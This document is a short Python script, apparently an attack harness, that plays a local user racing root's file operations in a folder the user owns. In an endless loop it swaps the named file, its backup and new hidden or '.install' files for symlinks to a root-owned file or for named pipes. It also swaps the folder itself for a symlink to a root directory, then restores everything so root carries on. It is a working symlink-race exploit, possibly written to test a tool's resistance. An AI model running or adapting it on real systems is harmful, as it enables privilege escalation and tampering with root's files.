"""Another user of the host, who owns FOLDER and the folder around it, while root works there:

    rogue.py FOLDER NAME VICTIM ROOTS

As fast as he can, he replaces NAME, its backup and every hidden file that appears beside it by links to VICTIM, a file of root's, or by a named
pipe; and FOLDER itself by a link to ROOTS, a folder of root's. What he replaced he puts back, so that root gets on.
"""
import os
import random
import sys

folder, name, victim, roots = sys.argv[1:]
real = folder + ".real"
path = os.path.join(folder, name)
aside = folder + ".aside"


def attempt(call, *words):
    try:
        call(*words)
        return True
    except OSError:
        return False


def plant(at, how):
    attempt(os.unlink, at)
    if how == "pipe":
        attempt(os.mkfifo, at)
    else:
        attempt(os.symlink, victim, at)


def swap_name():
    if attempt(os.rename, path, aside):
        plant(path, random.choice(("link", "link", "link", "pipe")))
        attempt(os.listdir, folder)
        attempt(os.unlink, path)
        attempt(os.rename, aside, path)


def swap_new():
    for other in os.listdir(folder):
        if other.startswith(".") or other.endswith(".install"):
            plant(os.path.join(folder, other), "link")


def swap_folder():
    if attempt(os.rename, folder, real):
        attempt(os.symlink, roots, folder)
        for _ in range(random.randrange(40)):
            os.getpid()
        attempt(os.unlink, folder)
        attempt(os.rename, real, folder)


while True:
    for turn in (swap_name, swap_new, swap_new, swap_folder):
        attempt(turn)
